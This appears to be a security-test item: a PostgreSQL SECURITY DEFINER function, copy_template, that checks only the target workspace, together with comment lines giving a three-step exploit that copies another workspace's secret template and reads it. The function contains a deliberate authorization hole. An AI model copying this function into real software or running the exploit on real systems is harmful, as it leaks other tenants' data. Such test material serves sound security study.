-- A member copies the template of any workspace into its own: only the target is checked.
-- about: copy_template, templates
-- as: hf_tapwire_app
-- exploit: SET request.jwt.claims = '{"sub": "usr|ann"}';
-- exploit: SELECT copy_template(8, 'aaaaaaaa-1111-0000-0000-000000000001');
-- exploit: SELECT body FROM templates;
-- shows: Road-secret half price
-- Copies a template into a workspace, under the next number there.
CREATE FUNCTION copy_template(p_template integer, p_target uuid) RETURNS integer
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp
AS $$
DECLARE
  n integer;
BEGIN
  IF NOT member_of(p_target) THEN
    RAISE EXCEPTION 'not a member';
  END IF;
  SELECT COALESCE(max(id), 0) + 1 INTO n FROM templates WHERE workspace_id = p_target;
  INSERT INTO templates SELECT p_target, n, title, body FROM templates WHERE id = p_template LIMIT 1;
  RETURN n;
END $$;
REVOKE ALL ON FUNCTION copy_template(integer, uuid) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION copy_template(integer, uuid) TO hf_tapwire_app;
